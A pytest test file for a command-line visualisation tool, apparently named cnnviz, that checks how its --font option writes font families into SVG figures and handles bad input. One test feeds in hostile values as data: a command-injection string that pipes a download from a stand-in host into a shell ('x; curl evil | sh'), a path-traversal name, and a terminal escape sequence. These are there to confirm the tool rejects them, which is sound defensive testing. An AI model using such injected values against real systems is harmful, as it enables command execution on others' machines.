"""--font: a figure's letters in another family, which its file holds as a part of its theme."""

from __future__ import annotations

from pathlib import Path

import pytest

from .conftest import Cnnviz

DEJAVU = ("--font", "DejaVu Sans")


@pytest.mark.parametrize("figure", [("compare",), ("draw", "neuron")])
def test_the_letters_are_in_the_family_that_was_asked_for(cnnviz: Cnnviz, figure) -> None:
    assert cnnviz(*figure, *DEJAVU, "-o", "a.svg").status == 0
    assert 'font-family="DejaVu Sans,' in Path("a.svg").read_text()


def test_the_theme_stays_and_remake_has_the_same_bytes(cnnviz: Cnnviz) -> None:
    cnnviz("compare", "--theme", "dark", *DEJAVU, "-o", "a.svg")
    assert cnnviz("remake", "a.svg", "-o", "b.svg").status == 0
    made = Path("a.svg").read_text()
    assert "#0f151c" in made
    assert Path("b.svg").read_text() == made


def test_a_family_that_is_not_installed_is_told(cnnviz: Cnnviz) -> None:
    ran = cnnviz("compare", "--font", "No\x1b[31mSuch", "-o", "a.svg")
    assert (ran.status, ran.out) == (0, "a.svg\n")
    assert "is not installed, so DejaVu Sans is drawn" in ran.err
    assert "\x1b" not in ran.err


def test_no_family_is_refused(cnnviz: Cnnviz) -> None:
    ran = cnnviz("compare", "--font", " ", "-o", "a.svg")
    assert (ran.status, Path("a.svg").exists()) == (2, False)
    assert "--font takes a family that is installed" in ran.err


def test_a_deck_has_its_own_font(cnnviz: Cnnviz) -> None:
    cnnviz("compare", "--into", "deck.pptx")
    ran = cnnviz("compare", *DEJAVU, "--into", "deck.pptx")
    assert ran.status == 2
    assert "the deck has its own font" in ran.err


@pytest.mark.parametrize(
    ("font", "package"),
    [("Source Serif 4", "fontpkg-source-serif-4"), ("x; curl evil | sh", ""), ("../evil", "")],
)
def test_what_is_no_name_stands_in_no_command(cnnviz: Cnnviz, font: str, package: str) -> None:
    ran = cnnviz("compare", "--font", font, "-o", "x.svg")
    assert ran.status == 0
    assert ("pip install " + package in ran.err) is bool(package)
